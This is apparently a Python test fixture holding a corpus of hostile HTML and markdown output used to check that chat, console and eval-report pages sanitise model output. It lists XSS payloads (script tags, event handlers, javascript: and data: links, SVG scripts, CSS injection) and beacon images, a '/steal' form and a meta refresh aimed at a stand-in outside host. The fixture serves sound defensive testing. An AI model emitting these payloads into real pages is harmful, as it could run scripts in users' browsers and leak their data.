"""The corpus of hostile model and tool output every page that shows it is tested with (the chat page:
test_hostile_output.py; the console and the eval reports: test_hostile_console.py): script tags, event
handlers, ``javascript:`` and ``data:`` links, SVG with scripts, CSS injection, markdown images and
elements pointing at an outside host. A script that ran sets ``window.__pwned``."""

from __future__ import annotations

OUTSIDE = "203.0.113.9"  # TEST-NET-3: never a real host
HOSTILE = [
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned = 'onerror'\">",
    "<svg onload=\"window.__pwned = 'svg onload'\"><script>window.__pwned = 'svg script'</script></svg>",
    "<iframe src=\"javascript:parent.__pwned = 'iframe'\"></iframe>",
    '<a href="javascript:window.__pwned = \'link\'" id="jslink">click me</a>',
    "[markdown link](javascript:window.__pwned='md-link')",
    "[data link](data:text/html,<script>alert(1)</script>)",
    f"![beacon](http://{OUTSIDE}/beacon.png?who=alice)",
    f'<img src="http://{OUTSIDE}/pixel.gif">',
    f"<style>body {{ background: url(http://{OUTSIDE}/css.png) }} * {{ display: none }}</style>",
    f'<div style="background-image: url(http://{OUTSIDE}/inline.png)">styled</div>',
    f'<link rel="stylesheet" href="http://{OUTSIDE}/evil.css">',
    f'<form action="http://{OUTSIDE}/steal">'
    "<input name=q autofocus onfocus=\"window.__pwned='focus'\"></form>",
    "<details open ontoggle=\"window.__pwned = 'toggle'\">x</details>",
    f'<object data="http://{OUTSIDE}/x.swf"></object><embed src="http://{OUTSIDE}/y">',
    f'<meta http-equiv="refresh" content="0;url=http://{OUTSIDE}/">',
]
ANSWER = "Here you are:\n\n" + "\n\n".join(HOSTILE) + "\n\nThe end."
# Elements and attributes none of the corpus may leave in a page that shows it
KEPT = (
    "script, iframe, object, embed, style, link, meta, form, svg, [onerror], [onload], [ontoggle], [onfocus]"
)
